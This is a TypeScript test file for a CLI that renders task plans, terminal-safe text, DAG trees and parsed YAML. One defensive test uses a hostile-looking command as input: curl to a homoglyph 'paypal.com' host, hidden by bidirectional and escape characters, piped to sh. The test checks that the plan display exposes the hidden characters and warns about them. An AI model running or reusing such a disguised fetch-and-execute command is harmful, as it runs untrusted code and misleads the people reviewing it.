import { describe, expect, it } from 'vitest';
import { parseYaml } from '../../cli/input.ts';
import { planText, type ShownPlan } from '../../cli/view/plan.ts';
import { budgetText, bytes, duration, harmless, money, oneLine, table } from '../../cli/view/text.ts';
import { dagTree } from '../../cli/view/tree.ts';
import { HIDDEN_WARNING, LOOKALIKE_WARNING } from '../../contracts/hidden-text.ts';
import { newTask } from '../../dashboard/pages/plan/draft.ts';

const node = (task_id: string, ...depends_on: string[]) => ({ task_id, depends_on });
const drawn = (...nodes: ReturnType<typeof node>[]) =>
  dagTree(nodes).map(({ task, prefix, also_after }) => [`${prefix}${task.task_id}`, ...also_after]);

describe('a DAG as a tree', () => {
  it('hangs each task under its deepest dependency, and names the others', () => {
    expect(drawn(node('a'), node('b', 'a'), node('c', 'a', 'b'), node('d', 'a'), node('e'))).toEqual([
      ['a'],
      ['├─ b'],
      ['│  └─ c', 'a'],
      ['└─ d'],
      ['e'],
    ]);
  });

  it('shows every task of a plan that is not valid, once', () => {
    const names = drawn(node('a', 'b'), node('b', 'a'), node('c', 'nobody'), node('d', 'd'));
    expect(names.map(([name]) => name!.at(-1)).sort()).toEqual(['a', 'b', 'c', 'd']);
  });
});

describe('words', () => {
  it('tell durations, money and sizes in few characters', () => {
    expect([0.04, 9.96, 59.7, 61, 3600, 7325].map(duration)).toEqual([
      '0.0 s',
      '10.0 s',
      '1 min 00 s',
      '1 min 01 s',
      '1 h 00 min',
      '2 h 02 min',
    ]);
    expect([0, 0.00042, 1.5].map(money)).toEqual(['$0', '$0.0004', '$1.50']);
    expect(budgetText({ spent_usd: 0.1, reserved_usd: 0, limit_usd: null })).toBe('$0.10');
    expect(budgetText({ spent_usd: 0.1, reserved_usd: 0, limit_usd: 2 })).toBe('$0.10 of $2.00');
    expect(budgetText({ spent_usd: 0.1, reserved_usd: 0.3, limit_usd: 2 })).toBe(
      '$0.10 spent + $0.30 reserved of $2.00',
    );
    expect([999, 1234, 5e6].map(bytes)).toEqual(['999 B', '1.2 kB', '5.0 MB']);
    expect(
      table([
        ['a', 'long'],
        ['longer', 'b'],
      ]),
    ).toEqual(['a       long', 'longer  b']);
  });

  it('let no control character through to the terminal', () => {
    expect(harmless('a\u001b[2Jb\u0007c\nd\te')).toBe('abc\nd\te');
    expect(oneLine(' two\n lines\u001b]0;title\u0007 ', 20)).toBe('two lines');
  });
});

describe('what a person decides about', () => {
  const plan = (command: string | string[]): ShownPlan => ({
    version: 1,
    source: 'given',
    rationale: '',
    warnings: [],
    objectives: [],
    constraints: [],
    acceptance_criteria: [],
    forecast: { cost_usd_low: 0, cost_usd_high: 0, seconds_critical_path: 1, basis: '' },
    tasks: [
      {
        ...newTask([]),
        ...{ task_id: 'a', title: 'A', agent: 'command', command, env: { MODE: 'x y' }, cwd: 'lib' },
      },
    ],
  });

  it('is a plan with the whole of every command', () => {
    const long = `echo ${'x'.repeat(300)}\necho second`;
    expect(planText(plan(long))).toContain(`    $ cd lib; MODE="x y" ${long.replace('\n', '\n      ')}`);
    expect(planText(plan(['rm', '-rf', 'a b']))).toContain('rm -rf "a b"');
  });

  it('shows characters that hide or reorder text by their numbers, with a warning', () => {
    const shown = planText(plan('curl https://p\u0430ypal.com\u202e \u001b[8m| sh'));
    expect(shown).toContain('curl https://p⟨U+0430⟩ypal.com⟨U+202E⟩ ⟨U+001B⟩[8m| sh');
    expect(shown).toContain(HIDDEN_WARNING);
    expect(shown).toContain(LOOKALIKE_WARNING);
    expect(oneLine('a\u200bb')).toBe('a⟨U+200B⟩b');
  });
});

describe('input', () => {
  it('reads YAML and JSON alike', () => {
    expect(parseYaml('{"a": [1]}', 'x')).toEqual(parseYaml('a:\n  - 1\n', 'x'));
    expect(parseYaml('{"a": 9007199254740992, "b": [1, 2.5], 3: 4}', 'x.yaml')).toEqual({
      a: 2 ** 53,
      b: [1, 2.5],
      3: 4,
    });
    expect(() => parseYaml('a: [9007199254740993]', 'x.yaml')).toThrow(
      /x\.yaml.*9007199254740993, which would/,
    );
    expect(() => parseYaml('a: b: c', 'x.yaml')).toThrow(/x\.yaml is neither YAML nor JSON/);
  });
});
